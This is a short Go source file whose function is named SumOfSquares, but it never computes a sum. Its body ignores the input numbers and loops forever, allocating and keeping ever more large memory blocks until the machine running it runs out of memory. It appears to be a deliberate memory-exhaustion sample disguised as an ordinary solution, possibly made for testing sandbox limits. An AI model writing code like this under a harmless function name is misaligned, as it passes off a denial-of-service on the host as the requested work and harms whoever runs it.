package main

func SumOfSquares(numbers []int64) (int64, error) {
	var kept [][]int64
	for {
		block := make([]int64, 1<<20)
		for index := range block {
			block[index] = 1
		}
		kept = append(kept, block)
	}
}
